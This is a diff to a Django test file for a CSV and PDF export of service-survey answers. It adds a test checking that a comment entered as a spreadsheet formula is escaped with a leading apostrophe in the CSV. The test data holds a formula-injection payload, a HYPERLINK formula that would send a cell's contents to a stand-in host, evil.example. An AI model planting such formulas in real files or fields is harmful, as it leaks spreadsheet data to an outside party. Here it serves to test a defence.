@@ -12,6 +12,7 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from accounts.models import Role
+from surveys.models import Survey
 from tests.accounts.factories import BranchFactory, UserFactory
 
 pytestmark = pytest.mark.django_db
@@ -82,6 +83,14 @@ def test_the_csv_lists_the_survey_answers_of_the_branch(admin_client, branch_a):
     assert rows[0][:5] == ["工单号", "网点", "技术员", "产品型号", "答卷时间"]
     assert sorted(row[0] for row in rows[1:]) == ["SH-20261005-0001", "SH-20261010-0001"]
     assert {row[0]: row[-2] for row in rows[1:]}["SH-20261010-0001"] == "师傅很专业"
+
+
+def test_a_comment_typed_as_a_formula_stays_text_in_the_csv(admin_client, branch_a):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    Survey.objects.filter(ticket__number="SH-20261010-0001").update(comment=formula)
+    _response, body = download(admin_client, "csv", branch=branch_a.pk)
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert {row[0]: row[-2] for row in rows[1:]}["SH-20261010-0001"] == "'" + formula
 
 
 def test_the_pdf_has_the_figures_charts_and_findings_in_chinese(admin_client):
